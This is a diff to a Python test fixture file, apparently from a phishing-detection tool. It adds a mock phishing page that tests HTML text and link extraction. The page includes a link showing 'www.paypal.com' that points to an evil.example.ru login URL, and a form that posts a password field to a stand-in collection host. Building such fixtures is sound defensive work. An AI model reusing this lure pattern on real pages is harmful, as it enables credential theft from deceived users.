@@ -26,6 +26,25 @@ REPORTER_COMMENT = "Is this legit? It looks odd to me."
 SIGNATURE_URL = "https://www.corp.example/about-us"
 DISCLAIMER = "CONFIDENTIALITY NOTICE: this e-mail is intended only for the named addressee."
 
+# A phishing page's HTML with the traps a text extractor meets (a script, a comment, a link whose
+# text names another site, an image link), for the text and pipeline tests.
+PHISH_HTML = """<!DOCTYPE html>
+<html><head><title>Title noise</title><style>p { color: red }</style>
+<script>var u = 'http://script.example.com/';</script></head>
+<body>
+<p>Dear&nbsp;customer &amp; friend,</p><div>Your account<br>is <b>locked</b>.</div>
+<table><tr><td>Cell one</td><td>Cell two</td></tr></table>
+<!-- a comment with http://comment.example.com/ -->
+<a href=" https://evil.example.ru/login
+">www.paypal.com</a>
+<a href="https://www.paypal.com/help">paypal.com</a>
+<a href="https://t.example.co/x"><img src="https://cdn.evil.example.ru/btn.png" alt="Log in"></a>
+<map><area href="https://area.example.net/" alt="Region"></map>
+<form action="https://collect.evil.example.ru/post.php" method="post"><input name="p"></form>
+<img srcset="https://img.example.org/a.png 1x, https://img.example.org/b.png 2x" src="https://img.example.org/a.png">
+<table background="https://bg.example.org/tile.gif"><tr><td>x</td></tr></table>
+</body></html>"""
+
 
 def boundary() -> str:
     return f"==b{next(_counter):04d}_watchword_test=="
